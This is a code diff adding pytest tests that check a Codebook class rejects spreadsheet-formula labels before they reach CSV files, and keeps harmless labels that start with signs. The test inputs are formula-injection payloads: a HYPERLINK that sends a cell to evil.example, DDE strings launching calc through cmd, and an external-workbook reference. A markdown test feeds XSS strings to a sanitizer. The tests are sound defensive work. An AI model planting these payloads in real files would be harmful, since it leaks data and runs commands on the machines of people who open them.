@@ -51,6 +51,25 @@ def test_names_that_a_screen_would_not_show_are_refused(text: str) -> None:
         Codebook("y", ("a", text), (Categorical("x", ("u", "v")),))
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example?"&A1)', "=cmd|'/c calc'!A1", "+cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0", "@SUM(1)*2",
+        "='//evil.example/[a.xlsx]b'!A1", " =IMPORTXML(A1)",
+    ],
+)  # fmt: skip
+def test_no_class_is_a_formula_that_a_spreadsheet_runs(text: str) -> None:
+    """`predict` and `study predict` write the column and its labels into CSV files, which people open."""
+    for target, label in ((text, "b"), ("y", text)):
+        with pytest.raises(ConfigError, match="formula"):
+            Codebook(target, ("a", label), (Categorical("x", ("u", "v")),))
+
+
+@pytest.mark.parametrize("text", ["-1", "+", "-", "=5", ">50K", "@home", "-5 (low)", "+/-", "<=50K", "wow!", "f(x)"])
+def test_labels_with_signs_stay_labels(text: str) -> None:
+    assert Codebook("y", ("a", text), (Categorical("-log10(p)", ("u", "v")),)).classes[1] == text
+
+
 def test_markdown_has_no_link_html_code_or_table_of_a_stranger() -> None:
     found = markdown("<img src=x onerror=alert(1)> [click](javascript:x) `code` a|b https://evil.example www.evil.example \\")
     assert "<" not in found
